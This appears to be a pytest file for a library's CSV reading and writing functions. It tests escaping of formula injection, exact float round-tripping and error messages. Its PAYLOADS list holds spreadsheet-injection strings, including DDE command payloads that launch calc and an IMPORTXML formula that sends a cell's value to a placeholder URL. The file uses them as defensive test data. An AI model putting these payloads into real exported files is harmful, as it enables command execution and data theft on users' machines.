"""CSV tables: safe in a spreadsheet, exact for float32, errors with a line number."""

from __future__ import annotations

import csv
import math

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dance_jax.data.tables import format_cell, plain_text, read_csv, safe_text, write_csv
from dance_jax.errors import InputError

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    '=HYPERLINK("http://x","y")',
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    "''=1+1",
    "-",
    "=",
    "=1+1\r\n",
    "\t\t=1+1",
    "\n\n+1",
    " \t =1+1",
    "\r\n@SUM(1)",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    "+HYPERLINK(A1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_cell_begins_a_formula(tmp_path, payload):
    path = tmp_path / "a.csv"
    write_csv(path, {"name": [payload, "plain"], payload: ["a", "b"]}, units={"name": payload})
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    for row in rows:
        for cell in row:
            assert cell[:1] not in tuple("=+-@\t\r\n ＝＋－＠")
    table = read_csv(path, units=True)
    assert table.columns["name"] == [payload, "plain"]
    assert payload in table.columns and table.units["name"] == payload


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20))
def test_marks_come_off_again(text):
    assert plain_text(safe_text(text)) == text
    assert safe_text(text)[:1] not in tuple("=+-@\t\r") or not text


@pytest.mark.parametrize("seed", [1, 2])
def test_numbers_come_back_exactly(tmp_path, seed):
    random = np.random.default_rng(seed)
    singles = (random.normal(size=500) * 10.0 ** random.integers(-30, 30, 500)).astype(np.float32)
    doubles = random.normal(size=500) * 10.0 ** random.integers(-200, 200, 500)
    singles[7] = np.nan
    write_csv(
        tmp_path / "a.csv",
        {"single": singles, "double": doubles, "count": np.arange(500), "name": ["x"] * 500},
        units={"single": "m"},
    )
    table = read_csv(tmp_path / "a.csv", units=True)
    np.testing.assert_array_equal(table.columns["single"].astype(np.float32), singles)
    np.testing.assert_array_equal(table.columns["double"], doubles)
    np.testing.assert_array_equal(table.columns["count"], np.arange(500))
    assert table.columns["name"] == ["x"] * 500
    assert table.units == {"single": "m", "double": "", "count": "", "name": ""}


def test_cells():
    cells = [
        None,
        math.nan,
        True,
        np.bool_(False),
        3,
        np.int64(-4),
        -0.5,
        np.float32(0.1),
        math.inf,
    ]
    assert [format_cell(c) for c in cells] == [
        "",
        "",
        "true",
        "false",
        "3",
        "-4",
        "-0.5",
        "0.1",
        "inf",
    ]


def test_the_file_is_plain_utf8(tmp_path):
    path = tmp_path / "a.csv"
    write_csv(path, {"größe": [1.5], "text": ['a, "b"\nc']})
    assert path.read_bytes() == 'größe,text\n1.5,"a, ""b""\nc"\n'.encode()
    assert read_csv(path).columns["text"] == ['a, "b"\nc']
    path.write_bytes(b"\xef\xbb\xbfa,b\r\n1,\r\n")  # as a spreadsheet saves it
    table = read_csv(path)
    assert table.columns["a"][0] == 1 and np.isnan(table.columns["b"][0])


def test_a_single_column_keeps_its_blanks(tmp_path):
    write_csv(tmp_path / "a.csv", {"a": [1.0, math.nan, 3.0]})
    np.testing.assert_array_equal(read_csv(tmp_path / "a.csv").columns["a"], [1, np.nan, 3])
    write_csv(tmp_path / "b.csv", {"a": [], "b": []})
    assert len(read_csv(tmp_path / "b.csv").columns["a"]) == 0


def test_errors_name_file_and_line(tmp_path):
    path = tmp_path / "a.csv"
    for data, words, line in (
        (b"a,b\n1,2\n3\n", "1 cells for 2", 3),
        (b"a,a\n1,2\n", "same name", 1),
        (b"", "no header", 1),
        (b'a,b\n"x"y,2\n', "not a CSV", 2),
        (b'a,b\n1,"2\n', "not a CSV", 2),
    ):
        path.write_bytes(data)
        with pytest.raises(InputError, match=words) as error:
            read_csv(path)
        assert f"a.csv:{line}" in str(error.value)
    path.write_bytes(b"a\n\xff\xfe\n")
    with pytest.raises(InputError, match="UTF-8"):
        read_csv(path)
    with pytest.raises(InputError, match="cannot be read"):
        read_csv(tmp_path / "gone.csv")
    with pytest.raises(ValueError, match="one length"):
        write_csv(path, {"a": [1], "b": []})
